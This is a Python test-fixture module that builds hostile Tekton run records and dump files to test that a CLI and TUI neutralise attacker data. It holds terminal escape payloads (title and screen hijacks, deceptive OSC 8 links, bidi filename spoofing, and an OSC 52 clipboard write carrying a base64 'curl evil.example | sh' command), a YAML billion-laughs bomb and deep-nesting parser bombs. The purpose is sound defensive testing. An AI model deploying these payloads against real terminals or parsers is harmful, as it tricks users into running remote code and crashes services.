"""A hostile corpus: runs and dump files whose data tries to drive the terminal, crash a parser or hide a run.

Imported by the CLI, store, watcher and TUI tests (`from hostile_corpus import ...`; `tests/` is on the
path through the root conftest's rootdir, or add it with `sys.path`). Everything is deterministic.

- `hostile_strings()`: name -> string carrying one attack (OSC 0/2/8/52, CSI, C1, bidi, zero-width, Rich
  markup, NUL, lone surrogates, 40-digit numbers...).
- `hostile_runs()`: valid PipelineRun/TaskRun/CustomRun dicts (their names, namespaces and uids are valid
  Kubernetes ones, so an API server would accept them and the store must keep them) carrying those strings in
  annotations, labels, the pipeline/task labels, condition reason and message, child task names and step names.
- `invalid_runs()`: (object, why) pairs whose name, namespace or uid an API server would refuse — `import`
  must skip each one with a reason, and that reason must itself be neutralised.
- `write_dumps(dir)`: yaml/json dump files, including the bombs (alias bomb, 10,000-deep nesting, a 10 MB
  object, 40-digit unquoted numbers), with a plain good file last: a bomb must not stop the files after it.
- `CONTROL_RE` / `controls(data)`: find any control sequence or character in emitted text or bytes (C0 but
  `\\n`, ESC, DEL, C1, bidi, zero-width, lone surrogates) for assertions on what reached the terminal.
"""

from __future__ import annotations

import json
import re
from pathlib import Path

# ---------------------------------------------------------------------------------------------------------
# What must never reach a terminal from data

# C0 except \n (ESC, BEL, BS, CR, TAB... included), DEL, C1, bidi embeddings/overrides/isolates/marks,
# zero-width and other invisible format characters, line/paragraph separators, BOM, lone surrogates
# (an undecodable byte shows up as one when bytes are decoded with surrogateescape).
CONTROL_RE = re.compile(
    "[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff\ud800-\udfff]"
)
# SGR colour (`ESC [ ... m`): the only sequence a log body may keep on a tty.
SGR_RE = re.compile("\x1b\\[[0-9;:]*m")


def _text(data: bytes | str) -> str:
    return data.decode("utf-8", "surrogateescape") if isinstance(data, bytes) else data


def controls(data: bytes | str, allow_sgr: bool = False) -> list[str]:
    """Every control character/sequence start found in `data` (empty when it is safe for a terminal).

    Bytes are decoded as UTF-8 (C1 characters encoded as UTF-8 are found; raw invalid bytes show up as lone
    surrogates). With `allow_sgr`, SGR colour sequences are removed first (log bodies on a tty).
    """
    text = _text(data)
    if allow_sgr:
        text = SGR_RE.sub("", text)
    return CONTROL_RE.findall(text)


def assert_no_controls(data: bytes | str, what: str = "output", allow_sgr: bool = False) -> None:
    found = controls(data, allow_sgr=allow_sgr)
    if found:
        text = _text(data)
        m = CONTROL_RE.search(SGR_RE.sub("", text) if allow_sgr else text)
        at = m.start() if m else 0
        raise AssertionError(f"{what} carries control characters {sorted(set(map(ascii, found)))[:8]} "
                             f"near {text[max(0, at - 40):at + 40]!r}")


# ---------------------------------------------------------------------------------------------------------
# The strings

FORTY_DIGITS = "1234567890123456789012345678901234567890"
MARKUP_STRINGS = ("[bold]", "[/x]", "[link=https://evil.example/]click[/link]")


def hostile_strings() -> dict[str, str]:
    """name -> a string carrying one attack (or one thing a database/parser may choke on)."""
    return {
        "osc0_title": "\x1b]0;pwned-title\x07",
        "osc2_title": "\x1b]2;pwned-title\x1b\\",
        "osc8_link": "\x1b]8;;https://evil.example/\x1b\\click me\x1b]8;;\x1b\\",
        "osc52_clipboard": "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\x07",
        "csi_clear_screen": "\x1b[2J\x1b[3J\x1b[H",
        "csi_cursor_moves": "ok\x1b[10A\x1b[5C\x1b[1K\x1b[s\x1b[u",
        "csi_sgr": "\x1b[31;1mred\x1b[0m",
        "c1_csi": "\x9b2J\x9bH",
        "c1_osc": "\x9d0;pwned-c1\x9c",
        "bidi_override": "evil\u202egnp.exe",
        "bidi_isolate": "a\u2066b\u2069c\u200fd",
        "zero_width": "ad\u200bmi\u200dn\ufeff",
        "markup_bold": "[bold]not bold[/bold]",
        "markup_close": "[/x] closes nothing",
        "markup_link": "[link=https://evil.example/]click[/link]",
        "nul": "before\x00after",
        "lone_surrogate_high": "a\ud800b",
        "lone_surrogate_low": "\udc80tail",
        "bell_backspace_del": "ding\x07\x08\x08\x7fx",
        "carriage_return": "shown\rhidden",
        "newline_tab": "line1\nline2\tcol",
        "forty_digits": FORTY_DIGITS,
        "long_text": "x" * 10_000,
    }


def _safe_key(name: str) -> str:
    return name.replace("_", "-")


# ---------------------------------------------------------------------------------------------------------
# Runs (valid names; hostile everything else)

NAMESPACE = "hostile"
BASE_TIME = "2026-01-01T10:00:00Z"
END_TIME = "2026-01-01T10:05:00Z"


def _uid(n: int, kind: int = 0) -> str:
    return f"00000000-0000-4000-8{kind:03d}-{n:012d}"


def _cond(status: str, reason: str, message: str) -> dict:
    return {"type": "Succeeded", "status": status, "reason": reason, "message": message,
            "lastTransitionTime": END_TIME}


def pipeline_run(name: str, uid: str, *, text: str = "", namespace: str = NAMESPACE, api: str = "tekton.dev/v1",
                 reason: str = "Succeeded", status: str = "True", resource_version: object = "1",
                 children: list[dict] | None = None, extra_meta: dict | None = None, timeout: object = "1h0m0s") -> dict:
    """A finished PipelineRun carrying `text` in its annotations, labels, pipeline label, message and task names."""
    meta: dict = {
        "name": name, "namespace": namespace, "uid": uid, "resourceVersion": resource_version, "generation": 1,
        "creationTimestamp": BASE_TIME,
        "labels": {"tekton.dev/pipeline": f"pipe{text}", "app.kubernetes.io/managed-by": "tekton-pipelines",
                   "hostile": text},
        "annotations": {"note": text, f"hostile.example/{_safe_key(name)[:40]}": text,
                        "results.tekton.dev/resultAnnotations": json.dumps({"repo": text}, ensure_ascii=False)},
    }
    meta.update(extra_meta or {})
    return {
        "apiVersion": api, "kind": "PipelineRun", "metadata": meta,
        "spec": {"pipelineRef": {"name": f"pipe{text}"}, "params": [{"name": "p", "value": text}],
                 "timeouts": {"pipeline": timeout}},
        "status": {"conditions": [_cond(status, reason, f"message {text} end")],
                   "startTime": BASE_TIME, "completionTime": END_TIME,
                   "childReferences": children or []},
    }


def task_run(name: str, uid: str, *, text: str = "", owner: dict | None = None, namespace: str = NAMESPACE,
             api: str = "tekton.dev/v1", reason: str = "Succeeded", status: str = "True") -> dict:
    """A finished TaskRun (child of `owner` when given) carrying `text` in its task names, steps and message."""
    labels = {"tekton.dev/task": f"task{text}", "hostile": text}
    meta: dict = {"name": name, "namespace": namespace, "uid": uid, "resourceVersion": "2", "generation": 1,
                  "creationTimestamp": BASE_TIME, "labels": labels, "annotations": {"note": text}}
    if owner is not None:
        om = owner["metadata"]
        labels.update({"tekton.dev/pipeline": om["labels"]["tekton.dev/pipeline"],
                       "tekton.dev/pipelineRun": om["name"], "tekton.dev/pipelineRunUID": om["uid"],
                       "tekton.dev/pipelineTask": f"ptask{text}"})
        meta["ownerReferences"] = [{"apiVersion": owner["apiVersion"], "kind": "PipelineRun", "name": om["name"],
                                    "uid": om["uid"], "controller": True, "blockOwnerDeletion": True}]
    return {
        "apiVersion": api, "kind": "TaskRun", "metadata": meta,
        "spec": {"taskRef": {"name": f"task{text}"}, "timeout": "1h0m0s"},
        "status": {"conditions": [_cond(status, reason, f"step {text} exited")], "podName": f"{name}-pod",
                   "startTime": BASE_TIME, "completionTime": END_TIME,
                   "steps": [{"name": f"step{text}", "container": "step-x",
                              "terminated": {"exitCode": 0, "reason": f"Completed{text}",
                                             "startedAt": BASE_TIME, "finishedAt": END_TIME}}]},
    }


def custom_run(name: str, uid: str, *, owner: dict, text: str = "", namespace: str = NAMESPACE) -> dict:
    """A finished v1beta1 CustomRun owned by `owner`."""
    om = owner["metadata"]
    return {
        "apiVersion": "tekton.dev/v1beta1", "kind": "CustomRun",
        "metadata": {"name": name, "namespace": namespace, "uid": uid, "resourceVersion": "3", "generation": 1,
                     "creationTimestamp": BASE_TIME,
                     "labels": {"tekton.dev/pipeline": om["labels"]["tekton.dev/pipeline"],
                                "tekton.dev/pipelineRun": om["name"], "tekton.dev/pipelineRunUID": om["uid"],
                                "tekton.dev/pipelineTask": f"custom{text}", "tekton.dev/customTask": f"ct{text}"},
                     "ownerReferences": [{"apiVersion": owner["apiVersion"], "kind": "PipelineRun",
                                          "name": om["name"], "uid": om["uid"], "controller": True,
                                          "blockOwnerDeletion": True}]},
        "spec": {"customRef": {"apiVersion": "example.dev/v1", "kind": "Wait"}},
        "status": {"conditions": [_cond("True", "Succeeded", f"custom {text}")], "startTime": BASE_TIME,
                   "completionTime": END_TIME},
    }


def hostile_runs() -> list[dict]:
    """Valid runs carrying every hostile string: per string a PipelineRun with a child TaskRun; plus a
    253-character PipelineRun name, 40-digit resourceVersion/timeout values, a failed run whose reason is
    hostile, and a CustomRun. Each one is a run an API server would accept: the store must keep them all."""
    runs: list[dict] = []
    for i, (key, text) in enumerate(hostile_strings().items()):
        pr_name = f"hostile-{_safe_key(key)}"
        pr = pipeline_run(pr_name, _uid(i, 1), text=text)
        tr = task_run(f"{pr_name}-task", _uid(i, 2), text=text, owner=pr)
        pr["status"]["childReferences"] = [{"apiVersion": "tekton.dev/v1", "kind": "TaskRun",
                                            "name": tr["metadata"]["name"], "pipelineTaskName": f"ptask{text}"}]
        runs += [pr, tr]
    n = len(runs)
    # the longest valid name (DNS-1123 subdomain: 253 characters)
    long_name = ("a" * 63 + ".") * 3 + "b" * 61
    assert len(long_name) == 253
    runs.append(pipeline_run(long_name, _uid(n, 3), text="long"))
    # 40-digit numbers where a number fits: resourceVersion (a string, as the API sends it) and a duration
    runs.append(pipeline_run("hostile-forty-digit-rv", _uid(n + 1, 3), resource_version=FORTY_DIGITS,
                             timeout=FORTY_DIGITS + "h"))
    # a failed run whose reason and message are hostile (the status column shows the reason)
    evil = hostile_strings()["osc52_clipboard"] + hostile_strings()["bidi_override"]
    runs.append(pipeline_run("hostile-reason", _uid(n + 2, 3), text=evil, status="False",
                             reason=f"Failed{evil}"))
    # a standalone TaskRun (its own Result) with a hostile reason
    runs.append(task_run("hostile-standalone-task", _uid(n + 3, 3), text=hostile_strings()["c1_csi"],
                         status="False", reason="Failed" + hostile_strings()["csi_clear_screen"]))
    # a CustomRun under its PipelineRun
    owner = pipeline_run("hostile-with-customrun", _uid(n + 4, 3), text=hostile_strings()["osc0_title"])
    cr = custom_run("hostile-with-customrun-wait", _uid(n + 5, 3), owner=owner,
                    text=hostile_strings()["osc0_title"])
    owner["status"]["childReferences"] = [{"apiVersion": "tekton.dev/v1beta1", "kind": "CustomRun",
                                           "name": cr["metadata"]["name"], "pipelineTaskName": "wait"}]
    runs += [owner, cr]
    return runs


def invalid_runs() -> list[tuple[dict, str]]:
    """(run, why) pairs an API server would refuse: bad names, namespaces, uids. `import` skips each with a
    reason; the hostile text inside the name must not reach the terminal through that reason."""
    s = hostile_strings()
    bad: list[tuple[dict, str]] = []
    cases = [
        ("name", f"bad-{s['osc0_title']}", NAMESPACE, _uid(900, 9), "name with OSC"),
        ("name", f"bad{s['c1_csi']}", NAMESPACE, _uid(901, 9), "name with C1 CSI"),
        ("name", f"bad{s['bidi_override']}", NAMESPACE, _uid(902, 9), "name with bidi override"),
        ("name", "Bad-Upper-Case", NAMESPACE, _uid(903, 9), "upper-case name"),
        ("name", "a" * 254, NAMESPACE, _uid(904, 9), "254-character name"),
        ("name", "", NAMESPACE, _uid(905, 9), "empty name"),
        ("name", f"bad{s['nul']}", NAMESPACE, _uid(906, 9), "name with NUL"),
        ("namespace", "ok-name-bad-ns-1", f"ns{s['csi_clear_screen']}", _uid(907, 9), "namespace with CSI"),
        ("namespace", "ok-name-bad-ns-2", "n" * 64, _uid(908, 9), "64-character namespace"),
        ("namespace", "ok-name-bad-ns-3", "dotted.namespace", _uid(909, 9), "namespace with a dot"),
        ("uid", "ok-name-bad-uid-1", NAMESPACE, f"uid{s['osc52_clipboard']}", "uid with OSC 52"),
        ("uid", "ok-name-bad-uid-2", NAMESPACE, "x" * 200, "200-character uid"),
    ]
    for _field, name, ns, uid, why in cases:
        bad.append((pipeline_run(name, uid, namespace=ns, text="invalid"), why))
    return bad


def huge_run(size: int = 10 * 1024 * 1024) -> dict:
    """A valid PipelineRun of about `size` bytes (one big annotation): over the per-object limit."""
    return pipeline_run("hostile-ten-megabytes", _uid(990, 3), extra_meta={
        "annotations": {"big": "y" * size}})


# ---------------------------------------------------------------------------------------------------------
# Bombs (text, not objects: they must be refused by the parser, never built)

def alias_bomb_yaml() -> str:
    """Billion laughs inside a PipelineRun (~600 bytes; 9**9 strings if expanded)."""
    lines = ["apiVersion: tekton.dev/v1", "kind: PipelineRun", "metadata:", "  name: alias-bomb",
             f"  namespace: {NAMESPACE}", "  uid: 00000000-0000-4000-8000-000000000b0b",
             "spec:", '  a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    prev = "a"
    for name in "bcdefghi":
        lines.append(f"  {name}: &{name} [" + ",".join([f"*{prev}"] * 9) + "]")
        prev = name
    return "\n".join(lines) + "\n"


def deep_json(depth: int = 10_000) -> str:
    """A PipelineRun whose spec holds `depth` nested lists."""
    return ('{"apiVersion":"tekton.dev/v1","kind":"PipelineRun","metadata":{"name":"deep-json","namespace":"'
            + NAMESPACE + '","uid":"00000000-0000-4000-8000-0000000000d1"},"spec":{"x":'
            + "[" * depth + "]" * depth + "}}\n")


def deep_yaml(depth: int = 10_000) -> str:
    """A PipelineRun whose spec holds `depth` nested flow lists."""
    return ("apiVersion: tekton.dev/v1\nkind: PipelineRun\nmetadata:\n  name: deep-yaml\n"
            f"  namespace: {NAMESPACE}\n  uid: 00000000-0000-4000-8000-0000000000d2\nspec:\n  x: "
            + "[" * depth + "]" * depth + "\n")


def forty_digit_yaml() -> str:
    """Two runs with unquoted 40-digit numbers (YAML makes ints of them): resourceVersion, generation, a duration."""
    return (
        "apiVersion: tekton.dev/v1\nkind: PipelineRun\nmetadata:\n  name: forty-digit-int-rv\n"
        f"  namespace: {NAMESPACE}\n  uid: 00000000-0000-4000-8000-0000000000f1\n"
        f"  resourceVersion: {FORTY_DIGITS}\n  generation: {FORTY_DIGITS}\n"
        f"  creationTimestamp: '{BASE_TIME}'\n"
        f"spec:\n  timeouts:\n    pipeline: {FORTY_DIGITS}h\nstatus:\n  startTime: '{BASE_TIME}'\n"
        f"  completionTime: '{END_TIME}'\n  conditions:\n  - type: Succeeded\n    status: 'True'\n"
        "    reason: Succeeded\n"
        "---\n"
        "apiVersion: tekton.dev/v1\nkind: PipelineRun\nmetadata:\n  name: forty-digit-after\n"
        f"  namespace: {NAMESPACE}\n  uid: 00000000-0000-4000-8000-0000000000f2\n  resourceVersion: '7'\n"
        f"  creationTimestamp: '{BASE_TIME}'\nstatus:\n  conditions:\n  - type: Succeeded\n    status: 'True'\n"
        "    reason: Succeeded\n"
    )


GOOD_LAST_NAME = "plain-run-after-the-bombs"


def _dump_list(items: list[dict]) -> dict:
    return {"apiVersion": "v1", "kind": "List", "items": items, "metadata": {"resourceVersion": ""}}


def _yaml_text(doc: dict) -> str:
    import yaml

    return yaml.safe_dump(doc, sort_keys=False, allow_unicode=False, width=1_000_000)


def write_dumps(directory: Path | str, huge: bool = True) -> list[Path]:
    """Write the corpus as dump files; the last one is a plain good run (`GOOD_LAST_NAME`) so a test can
    check that no bomb stopped the files after it. Files:

    hostile.json (every hostile run; JSON with \\u escapes, so NUL and lone surrogates are carried),
    hostile.yaml (the runs YAML can carry: no lone surrogates), invalid-names.json, alias-bomb.yaml,
    deep.json, deep.yaml, forty-digits.yaml, huge.json (a ~10 MB object; `huge=False` leaves it out),
    good-last.yaml.
    """
    d = Path(directory)
    d.mkdir(parents=True, exist_ok=True)
    paths: list[Path] = []

    def put(name: str, text: str) -> None:
        p = d / name
        p.write_text(text, encoding="utf-8", errors="surrogatepass")
        paths.append(p)

    runs = hostile_runs()
    put("hostile.json", json.dumps(_dump_list(runs), ensure_ascii=True, indent=1) + "\n")
    yaml_runs = [r for r in runs if not re.search("[\ud800-\udfff]", json.dumps(r, ensure_ascii=False))]
    put("hostile.yaml", _yaml_text(_dump_list(yaml_runs)))
    put("invalid-names.json", json.dumps(_dump_list([r for r, _ in invalid_runs()]), ensure_ascii=True) + "\n")
    put("alias-bomb.yaml", alias_bomb_yaml())
    put("deep.json", deep_json())
    put("deep.yaml", deep_yaml())
    put("forty-digits.yaml", forty_digit_yaml())
    if huge:
        put("huge.json", json.dumps(huge_run()) + "\n")
    put("good-last.yaml", _yaml_text(pipeline_run(GOOD_LAST_NAME, _uid(999, 3))))
    return paths


def surrogate_free(runs: list[dict]) -> list[dict]:
    """The runs a YAML file can carry (no lone surrogates anywhere)."""
    return [r for r in runs if not re.search("[\ud800-\udfff]", json.dumps(r, ensure_ascii=False))]
